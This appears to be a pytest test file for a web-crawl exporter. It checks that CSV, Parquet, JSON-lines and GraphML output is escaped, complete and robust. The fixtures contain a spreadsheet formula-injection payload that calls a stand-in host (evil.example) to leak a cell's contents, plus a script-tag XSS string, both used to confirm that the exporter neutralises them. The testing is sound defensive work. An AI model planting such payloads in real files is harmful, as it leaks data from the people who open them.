@@ -1,0 +1,226 @@
+"""A crawl as tables and as a graph: whole, valid, and harmless to whoever opens it."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import resource
+import subprocess
+import sys
+from datetime import UTC, datetime
+from pathlib import Path
+
+import numpy as np
+import pyarrow.parquet as parquet
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+from jsonschema import Draft202012Validator
+from lxml import etree
+from support.crawling import ROOT, scrapy
+from support.items import a_crawl, add, an_item
+
+from crawlproject.errors import BadCrawlDir, BadInput, StorageFailed
+from crawlproject.exporting.files import FORMATS, export_file
+from crawlproject.exporting.graphml import write_graphml
+from crawlproject.exporting.selection import EVERYTHING, Selection
+from crawlproject.exporting.tables import write_csv, write_parquet
+from crawlproject.repository.items import item_schema
+
+NAMES = list(item_schema()["properties"])
+EVIL = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+GRAPH = "{http://graphml.graphdrawing.org/xmlns}"
+
+
+@pytest.fixture
+def crawl(tmp_path: Path) -> Path:
+    folder = a_crawl(
+        tmp_path / "crawl",
+        an_item(0, 'Coral, "reefs"\nand more', relevance=0.5, parts={"anchor": 0.25}, published="2024-03-09"),
+        an_item(1, "<b>&amp;</b>\0\x0b\ufffe", title="]]><script>alert(1)</script>\x1b", relevance=0.25),
+        an_item(2, "steam", parent="http://a.example/0", anchor="@SUM(A1)", title=EVIL),
+        an_item(3, "copy", relevance=0.5, duplicate_of="http://a.example/0"),
+    )
+    links = [
+        ("0", "1", "to <one> & \x02"),
+        ("0", "1", "again"),
+        ("0", "9", "not fetched"),
+        ("2", "0", "back"),
+        ("3", "0", "c"),
+    ]
+    with (folder / "links.jsonl").open("w") as file:
+        for source, target, anchor in links:
+            ends = {"source": f"http://a.example/{source}", "target": f"http://a.example/{target}"}
+            file.write(json.dumps({**ends, "anchor": anchor, "context_score": 0.5}) + "\n")
+    return folder
+
+
+def exported(crawl: Path, kind: str, selection: Selection = EVERYTHING) -> Path:
+    target = crawl.parent / f"out.{kind}"
+    export_file(crawl, target, kind, selection, now=1_700_000_000.0)
+    return target
+
+
+def test_json_lines(crawl: Path) -> None:
+    lines = [json.loads(line) for line in exported(crawl, "jsonl").read_text("utf-8").split("\n")[:-1]]
+    assert lines == [json.loads(line) for line in (crawl / "items.jsonl").read_bytes().split(b"\n")[:-1]]
+    validator = Draft202012Validator(item_schema())
+    for line in lines:
+        validator.validate({**line, "digest": "0" * 32})
+
+
+def test_csv_holds_no_formulas(crawl: Path) -> None:
+    rows = list(csv.DictReader(io.StringIO(exported(crawl, "csv").read_bytes().decode(), newline="")))
+    assert list(rows[0]) == NAMES and len(rows) == 4
+    assert rows[0]["text"] == 'Coral, "reefs"\nand more' and json.loads(rows[0]["parts"]) == {"anchor": 0.25}
+    assert rows[0]["parent"] == "" and rows[0]["relevance"] == "0.5"
+    assert (rows[2]["title"], rows[2]["anchor"]) == ("'" + EVIL, "'@SUM(A1)")
+    assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for value in row.values())
+
+
+def test_parquet(crawl: Path) -> None:
+    table = parquet.read_table(exported(crawl, "parquet"))
+    assert table.column_names == NAMES and table.num_rows == 4
+    first = table.slice(0, 1).to_pylist()[0]
+    assert first["at"] == datetime(1970, 1, 1, 0, 16, 40, tzinfo=UTC) and first["parts"] == [("anchor", 0.25)]
+    assert (first["parent"], first["depth"], first["published"]) == (None, 0, "2024-03-09")
+    assert np.isclose(table["relevance"].to_numpy(), [0.5, 0.25, 0.0, 0.5]).all()
+
+
+def test_graphml(crawl: Path) -> None:
+    tree = etree.parse(exported(crawl, "graphml"))
+    titles = [node.findtext(f"{GRAPH}data[@key='n-title']") for node in tree.iter(f"{GRAPH}node")]
+    assert titles == ["Page 0", "]]><script>alert(1)</script> ", EVIL, "Page 3"]
+    ids = [node.get("id") for node in tree.iter(f"{GRAPH}node")]
+    assert ids == [an_item(number, "")["md5"] for number in range(4)]
+    edges = [(ids.index(edge.get("source")), ids.index(edge.get("target"))) for edge in tree.iter(f"{GRAPH}edge")]
+    assert edges == [(0, 1), (2, 0), (3, 0)], "the first of two links, and none to a page that is not there"
+    declared = {key.get("id") for key in tree.iter(f"{GRAPH}key")}
+    assert {data.get("key") for data in tree.iter(f"{GRAPH}data")} <= declared
+
+
+@given(st.lists(st.text(st.characters()), min_size=1, max_size=4))
+def test_any_title_is_valid_xml(titles: list[str]) -> None:
+    file = io.BytesIO()
+    write_graphml((an_item(n, "", title=title) for n, title in enumerate(titles)), Path("/nowhere"), file)
+    assert len(list(etree.fromstring(file.getvalue()).iter(f"{GRAPH}node"))) == len(titles)
+
+
+@given(st.lists(st.text(st.characters(exclude_characters="\0", exclude_categories=["Cs"])), max_size=4))
+def test_any_title_comes_back_from_csv(titles: list[str]) -> None:
+    file = io.BytesIO()
+    write_csv((an_item(n, "", title=title) for n, title in enumerate(titles)), file)
+    rows = list(csv.DictReader(io.StringIO(file.getvalue().decode(), newline="")))
+    assert [row["title"].removeprefix("'") for row in rows] == [title.removeprefix("'") for title in titles]
+
+
+@given(st.lists(st.text(st.characters(exclude_categories=["Cs"])), max_size=4))
+def test_any_title_comes_back_from_parquet(titles: list[str]) -> None:
+    file = io.BytesIO()
+    assert write_parquet((an_item(n, "", title=title) for n, title in enumerate(titles)), file) == len(titles)
+    assert parquet.read_table(file)["title"].to_pylist() == titles
+
+
+@pytest.mark.parametrize("kind", ["jsonl", "csv", "parquet", "graphml"])
+def test_selected_pages(crawl: Path, kind: str) -> None:
+    def count(selection: Selection) -> int:
+        path = exported(crawl, kind, selection)
+        if kind == "parquet":
+            return parquet.read_table(path).num_rows
+        if kind == "graphml":
+            return len(list(etree.parse(path).iter(f"{GRAPH}node")))
+        return len(list(csv.reader(path.open(newline="")))) - 1 if kind == "csv" else path.read_bytes().count(b"\n")
+
+    assert count(Selection()) == 3
+    assert count(Selection(with_duplicates=True)) == 4
+    assert count(Selection(min_relevance=0.5)) == 1
+    assert count(Selection(0.5, with_duplicates=True)) == 2
+
+
+# ------------------------------------------------------------ whole or not at all
+
+
+@pytest.mark.parametrize("kind", [kind for kind in FORMATS if kind not in ("warc",)])
+def test_a_damaged_crawl_leaves_no_file_and_the_old_one_as_it_was(crawl: Path, kind: str) -> None:
+    target = crawl.parent / f"out.{kind}"
+    target.write_text("before")
+    with (crawl / "items.jsonl").open("a") as file:
+        file.write("{oops\n")
+    with pytest.raises(BadCrawlDir, match=r"items\.jsonl, line 5"):
+        exported(crawl, kind)
+    assert target.read_text() == "before"
+    assert sorted(path.name for path in crawl.parent.iterdir()) == ["crawl", f"out.{kind}"]
+
+
+def test_a_crawl_by_an_older_version_has_every_field(crawl: Path) -> None:
+    old = {name: an_item(8, "old")[name] for name in NAMES[:13]}
+    add(crawl, old)
+    line = json.loads(exported(crawl, "jsonl").read_bytes().split(b"\n")[-2])
+    assert list(line) == NAMES and (line["published"], line["parts"], line["spam"]) == ("", {}, 0.0)
+
+
+def test_what_is_wrong_is_told(crawl: Path, tmp_path: Path) -> None:
+    with pytest.raises(BadCrawlDir, match=r"crawl\.json"):
+        export_file(tmp_path, tmp_path / "x", "csv", EVERYTHING, now=0.0)
+    with pytest.raises(BadInput, match="name of a file"):
+        export_file(crawl, tmp_path, "csv", EVERYTHING, now=0.0)
+    with pytest.raises(StorageFailed, match="cannot write"):
+        export_file(crawl, crawl / "items.jsonl" / "x", "csv", EVERYTHING, now=0.0)
+    (crawl / "items.jsonl").unlink()
+    with pytest.raises(BadCrawlDir, match="rehearsal"):
+        export_file(crawl, tmp_path / "x", "csv", EVERYTHING, now=0.0)
+
+
+def test_a_full_disk(crawl: Path) -> None:
+    """The kernel gives the file no more than 4 KB."""
+    add(crawl, *(an_item(number, "x" * 10_000) for number in range(20, 30)))
+    program = (
+        "import resource, signal, sys; from pathlib import Path\n"
+        "from crawlproject.errors import StorageFailed; from crawlproject.exporting.files import export_file\n"
+        "from crawlproject.exporting.selection import EVERYTHING\n"
+        "signal.signal(signal.SIGXFSZ, signal.SIG_IGN); resource.setrlimit(resource.RLIMIT_FSIZE, (4096, 4096))\n"
+        "for kind in sys.argv[2:]:\n"
+        "    try: export_file(Path(sys.argv[1]), Path(sys.argv[1]).parent / kind, kind, EVERYTHING, now=0.0)\n"
+        "    except StorageFailed as failed: print(kind, failed)\n"
+    )
+    kinds = ["csv", "graphml", "jsonl", "parquet"]
+    add(crawl, *(an_item(number, "", title=str(number) * 999) for number in range(30, 40)))
+    done = subprocess.run(
+        [sys.executable, "-c", program, crawl, *kinds], cwd=ROOT, capture_output=True, text=True, check=False
+    )
+    told = [line.split()[0] for line in done.stdout.splitlines()]
+    assert set(told) >= {"csv", "graphml", "jsonl"}, done.stderr
+    assert not [path for path in crawl.parent.iterdir() if path.name.startswith(".")]
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize("kind", ["csv", "jsonl", "parquet"])
+def test_memory_does_not_grow_with_the_crawl(tmp_path: Path, kind: str) -> None:
+    """200 MB of text in 20,000 pages, in a process of its own."""
+    crawl = a_crawl(tmp_path / "crawl")
+    line = json.dumps(an_item(0, "coral reef " * 900)).encode() + b"\n"
+    with (crawl / "items.jsonl").open("wb") as file:
+        for _ in range(20_000):
+            file.write(line)
+    program = (
+        "import resource, sys; from pathlib import Path\nfrom crawlproject.exporting.files import export_file\n"
+        "from crawlproject.exporting.selection import EVERYTHING\n"
+        "import pyarrow.parquet\nbefore = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss\n"
+        "export_file(Path(sys.argv[1]), Path(sys.argv[2]), sys.argv[3], EVERYTHING, now=0.0)\n"
+        "print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before)"
+    )
+    arguments = [sys.executable, "-c", program, str(crawl), str(tmp_path / "out"), kind]
+    done = subprocess.run(arguments, cwd=ROOT, capture_output=True, text=True, check=True)
+    grown = int(done.stdout) * (1 if sys.platform == "darwin" else 1024)
+    assert grown < 160e6, resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss
+
+
+def test_the_command(crawl: Path, tmp_path: Path) -> None:
+    done = scrapy("export", crawl, "--to", "csv", tmp_path / "pages.csv", "--min-relevance", "0.25")
+    assert (done.returncode, done.stdout) == (0, f"2 pages in {tmp_path / 'pages.csv'}\n")
+    both = scrapy("export", crawl, "--to", "graphml", tmp_path / "links.graphml", "--with-duplicates")
+    assert both.stdout == f"4 pages and 3 links in {tmp_path / 'links.graphml'}\n"
+    for wrong in (("--to", "xml", "x"), ("--to", "csv"), ("--to", "csv", "x", "--min-relevance", "2")):
+        assert scrapy("export", crawl, *wrong).returncode == 2
+    assert scrapy("export", tmp_path / "none", "--to", "csv", tmp_path / "x").returncode == 2
